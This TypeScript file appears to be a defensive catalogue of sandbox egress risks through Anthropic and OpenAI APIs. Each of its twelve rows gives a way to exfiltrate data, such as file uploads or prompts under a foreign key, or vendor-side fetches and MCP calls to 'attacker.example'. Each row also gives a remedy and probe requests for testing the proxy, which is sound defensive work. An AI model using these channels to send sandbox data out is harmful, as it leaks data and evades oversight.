import { foreign, own } from './probe.ts'
import type { CatalogueRow } from './row.ts'

const anthropicKeys = ['x-api-key', 'authorization']
const bearer = ['authorization']
const url = 'https://attacker.example/data'

const anthropic = {
  hosts: ['api.anthropic.com'],
  safe: 'anthropic',
  tenant: 'anthropic-allowed-org-ids',
  remedy:
    'let the proxy set your key, on /v1/messages and what else is needed, and send anthropic-allowed-org-ids',
} as const

const openai = {
  hosts: ['api.openai.com'],
  safe: 'openai',
  remedy: 'let the proxy set your key, on the paths that are needed, with `store: false`',
} as const

/** Services of model vendors: an upload or a prompt under a key of the attacker's is read by the attacker. */
export const aiServices: readonly CatalogueRow[] = [
  {
    row: 1,
    id: 'anthropic-files',
    title: 'Files can be uploaded to anybody’s Anthropic account',
    endpoints: 'POST /v1/files',
    how: 'POST /v1/files stores a file of the sandbox in the account whose key the request carries: an attacker puts in his own key and downloads the file from outside.',
    closes: ['intercept', 'pin', 'paths', 'tenant'],
    tags: ['ai-upload'],
    probes: foreign('POST /v1/files', anthropicKeys),
    ...anthropic,
  },
  {
    row: 2,
    id: 'anthropic-messages',
    title: 'Prompts can be sent under anybody’s Anthropic key',
    endpoints: 'POST /v1/messages, /v1/complete',
    how: 'Data goes out as the text of a prompt under the attacker’s own key, whose account keeps it.',
    closes: ['pin', 'tenant'],
    tags: ['ai-upload'],
    probes: [
      ...foreign('POST /v1/messages', anthropicKeys, { json: {} }),
      ...foreign('POST /v1/complete', anthropicKeys, { json: {} }),
    ],
    ...anthropic,
  },
  {
    row: 3,
    id: 'anthropic-batches',
    title: 'Batches can be stored under anybody’s Anthropic key',
    endpoints: 'POST /v1/messages/batches',
    how: 'A batch holds the data as prompts; its results are read later, from outside, with the attacker’s key.',
    closes: ['pin', 'paths'],
    tags: ['ai-upload'],
    probes: foreign('POST /v1/messages/batches', anthropicKeys, { json: {} }),
    ...anthropic,
  },
  {
    row: 4,
    id: 'anthropic-mcp',
    title: 'Anthropic can be told to call an MCP server of the attacker’s',
    endpoints: 'POST /v1/messages with mcp_servers',
    how: 'A message under your own key names an MCP server by URL; the vendor connects to it and hands it what the model is told to.',
    closes: ['body'],
    tags: ['ai-upload', 'fetch'],
    probes: own('POST /v1/messages', {
      json: { mcp_servers: [{ type: 'url', url, name: 'tools' }] },
    }),
    ...anthropic,
  },
  {
    row: 5,
    id: 'anthropic-fetch',
    title: 'Anthropic can be told to fetch a URL of the attacker’s',
    endpoints: 'POST /v1/messages with web_fetch, web_search or a source of type url',
    how: 'A message under your own key has the vendor fetch a URL, in which the data stands.',
    closes: ['body'],
    tags: ['ai-upload', 'fetch'],
    probes: [
      ...own('POST /v1/messages', {
        json: { tools: [{ type: 'web_fetch_20260318', name: 'web_fetch' }] },
      }),
      ...own('POST /v1/messages', {
        json: {
          messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url } }] }],
        },
      }),
    ],
    ...anthropic,
  },
  {
    row: 6,
    id: 'anthropic-objects',
    title: 'Skills, sessions and memories can be stored in anybody’s Anthropic account',
    endpoints: 'POST /v1/skills, /v1/agents, /v1/sessions, /v1/memory_stores, /v1/vaults',
    how: 'What is stored there stays, and is read from outside by the account whose key was used.',
    closes: ['paths'],
    tags: ['ai-upload'],
    probes: [
      ...foreign('POST /v1/skills', anthropicKeys),
      ...foreign('POST /v1/agents', anthropicKeys, { json: {} }),
      ...foreign('POST /v1/sessions', anthropicKeys, { json: {} }),
      ...foreign('POST /v1/memory_stores', anthropicKeys, { json: {} }),
      ...foreign('POST /v1/vaults', anthropicKeys, { json: {} }),
    ],
    ...anthropic,
  },
  {
    row: 7,
    id: 'anthropic-count-tokens',
    title: 'Tokens can be counted under anybody’s Anthropic key',
    endpoints: 'POST /v1/messages/count_tokens',
    how: 'Usage counters of the attacker’s account show how much was sent, and when: a slow channel, and the text itself is sent along.',
    closes: ['pin', 'tenant'],
    tags: ['ai-upload'],
    probes: foreign('POST /v1/messages/count_tokens', anthropicKeys, { json: {} }),
    ...anthropic,
  },
  {
    row: 8,
    id: 'anthropic-login',
    title: 'Somebody inside can sign in as another user of Claude',
    endpoints: 'OAuth and uploads at the web applications',
    how: 'A session is opened in the attacker’s name, and everything that the web application takes goes to his account.',
    remedy: 'sign in outside of the sandbox, and leave these hosts out',
    hosts: ['platform.claude.com', 'console.anthropic.com', 'claude.ai'],
    closes: ['unlisted'],
    tags: ['upload', 'credential'],
    probes: [
      ...foreign('POST /v1/oauth/token', ['authorization', 'cookie'], { json: {} }),
      ...foreign('POST /api/organizations/o/upload', ['authorization', 'cookie']),
    ],
    safe: 'none',
  },
  {
    row: 9,
    id: 'openai-files',
    title: 'Files can be uploaded to anybody’s OpenAI account',
    endpoints: 'POST /v1/files, /v1/uploads, /v1/uploads/*/parts',
    how: 'A file of the sandbox is stored in the account whose key the request carries.',
    closes: ['pin', 'paths'],
    tags: ['ai-upload'],
    probes: [
      ...foreign('POST /v1/files', bearer),
      ...foreign('POST /v1/uploads', bearer, { json: {} }),
      ...foreign('POST /v1/uploads/u/parts', bearer),
    ],
    ...openai,
  },
  {
    row: 10,
    id: 'openai-stored-text',
    title: 'Prompts can be sent, and stored, under anybody’s OpenAI key',
    endpoints: 'POST /v1/responses, /v1/chat/completions, /v1/conversations',
    how: 'Responses are stored unless the request says otherwise, and whoever owns the key reads them.',
    closes: ['pin', 'body'],
    tags: ['ai-upload'],
    probes: [
      ...foreign('POST /v1/responses', bearer, { json: { store: true } }),
      ...foreign('POST /v1/chat/completions', bearer, { json: { store: true } }),
      ...foreign('POST /v1/conversations', bearer, { json: {} }),
    ],
    ...openai,
  },
  {
    row: 11,
    id: 'openai-fetch',
    title: 'OpenAI can be told to call a URL of the attacker’s',
    endpoints:
      'POST /v1/responses, /v1/chat/completions with an MCP server, search, or an image by URL',
    how: 'A request under your own key has the vendor call a URL, in which, or to which, the data goes.',
    closes: ['body'],
    tags: ['ai-upload', 'fetch'],
    probes: [
      ...own('POST /v1/responses', {
        json: { store: false, tools: [{ type: 'mcp', server_label: 'tools', server_url: url }] },
      }),
      ...own('POST /v1/responses', { json: { store: false, tools: [{ type: 'web_search' }] } }),
      ...own('POST /v1/responses', {
        json: {
          store: false,
          input: [{ role: 'user', content: [{ type: 'input_image', image_url: url }] }],
        },
      }),
      ...own('POST /v1/chat/completions', {
        json: {
          messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url } }] }],
        },
      }),
    ],
    ...openai,
  },
  {
    row: 12,
    id: 'openai-realtime',
    title: 'A live stream can be opened under anybody’s OpenAI key',
    endpoints: 'WebSocket /v1/realtime, with the key in a sub-protocol',
    how: 'Once the WebSocket stands, anything can be streamed to the account whose key opened it.',
    closes: ['websocket', 'pin'],
    tags: ['ai-upload'],
    probes: foreign('GET /v1/realtime', ['protocol:openai-insecure-api-key', 'authorization'], {
      websocket: true,
    }),
    ...openai,
  },
]
